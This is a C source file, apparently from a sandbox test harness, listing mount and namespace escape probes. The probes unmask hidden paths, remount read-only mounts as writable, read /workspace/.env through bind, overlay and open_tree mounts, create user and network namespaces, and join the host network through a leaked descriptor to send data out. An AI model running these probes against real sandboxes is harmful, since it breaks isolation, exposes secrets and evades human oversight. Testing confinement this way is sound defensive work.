/* Attacks by mounts and namespaces. */
#define _GNU_SOURCE
#include "attack.h"
#include <arpa/inet.h>
#include <linux/mount.h>
#include <linux/sched.h>
#include <net/if.h>
#include <sys/ioctl.h>
#include <sys/wait.h>

#define MS_RDONLY_FLAG 1
#define MS_REMOUNT_FLAG 32
#define MS_BIND_FLAG 4096

/* By number: the header of the C library and that of the kernel do not go together. */
static int do_mount(const char *from, const char *to, const char *kind, unsigned long flags, const char *data) {
    return syscall(SYS_mount, from, to, kind, flags, data);
}

static int show(const char *path) {
    char text[4096];
    int fd = open(path, O_RDONLY);
    ssize_t len = fd < 0 ? -1 : read(fd, text, sizeof text);
    return len <= 0 ? 1 : write(1, text, len) != len;
}

static int write_word(const char *path, const char *word) {
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0644);
    return fd < 0 || write(fd, word, strlen(word)) < 0;
}

static int umount_mask(int argc, char **argv) {
    if (syscall(SYS_umount2, argv[1], 2) != 0) return 1;
    return show(argv[1]);
}

static int remount(int argc, char **argv) {
    if (do_mount(NULL, argv[1], NULL, MS_BIND_FLAG | MS_REMOUNT_FLAG, NULL) != 0) return 1;
    char path[256];
    snprintf(path, sizeof path, "%s/%s", argv[1], argv[2]);
    return write_word(path, argv[2]);
}

static int setattr(int argc, char **argv) {
    struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
    if (syscall(SYS_mount_setattr, AT_FDCWD, argv[1], 0, &attr, sizeof attr) != 0) return 1;
    char path[256];
    snprintf(path, sizeof path, "%s/%s", argv[1], argv[2]);
    return write_word(path, argv[2]);
}

static int bind_again(int argc, char **argv) {
    mkdir("/tmp/again", 0755);
    if (do_mount("/workspace", "/tmp/again", NULL, MS_BIND_FLAG, NULL) != 0) return 1;
    return show("/tmp/again/.env");
}

static int tree(int argc, char **argv) {
    int fd = syscall(SYS_open_tree, AT_FDCWD, "/workspace", OPEN_TREE_CLONE);
    if (fd < 0) return 1;
    int file = openat(fd, ".env", O_RDONLY);
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", file);
    return file < 0 || show(path);
}

static int overlay(int argc, char **argv) {
    mkdir("/tmp/empty", 0755);
    mkdir("/tmp/over", 0755);
    if (do_mount("o", "/tmp/over", "overlay", 0, "lowerdir=/workspace:/tmp/empty") != 0) return 1;
    return show("/tmp/over/.env");
}

/* In a new user namespace one has all rights over it, and so over a new network. */
static int has_rights(void) {
    return unshare(CLONE_NEWNET) == 0;
}

static int unshare_user(int argc, char **argv) {
    return unshare(CLONE_NEWUSER) == 0 && has_rights() ? proof() : 1;
}

/* Mounts in namespaces of its own, where nothing is out of its reach. */
static int mount_own(int argc, char **argv) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0 || do_mount("t", "/usr", "tmpfs", 0, NULL) != 0) return 1;
    return proof();
}

static int in_child(long child) {
    if (child == 0) _exit(!has_rights());
    int status;
    if (child < 0 || waitpid(child, &status, 0) != child || status != 0) return 1;
    return proof();
}

static int clone_user(int argc, char **argv) {
    return in_child(syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, NULL, NULL, NULL, 0));
}

static int clone3_user(int argc, char **argv) {
    struct clone_args how = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
    return in_child(syscall(SYS_clone3, &how, sizeof how));
}

static int unshare_net(int argc, char **argv) {
    return unshare(CLONE_NEWNET) != 0 ? 1 : proof();
}

/* Into the network of the host by a descriptor that was left open. */
static int setns_net(int argc, char **argv) {
    if (setns(LEAKED_NET, CLONE_NEWNET) != 0) return 1;
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(7778)};
    inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    return sendto(fd, argv[1], strlen(argv[1]), 0, (struct sockaddr *)&to, sizeof to) < 0;
}

const struct attack mount_attacks[] = {
    {"umount", umount_mask},        {"remount", remount},       {"mount-setattr", setattr}, {"bind", bind_again},
    {"open-tree", tree},            {"overlay", overlay},       {"unshare-user", unshare_user},
    {"clone-user", clone_user},     {"clone3-user", clone3_user}, {"unshare-net", unshare_net},
    {"setns-net", setns_net},      {"mount-own", mount_own},       {NULL, NULL},
};
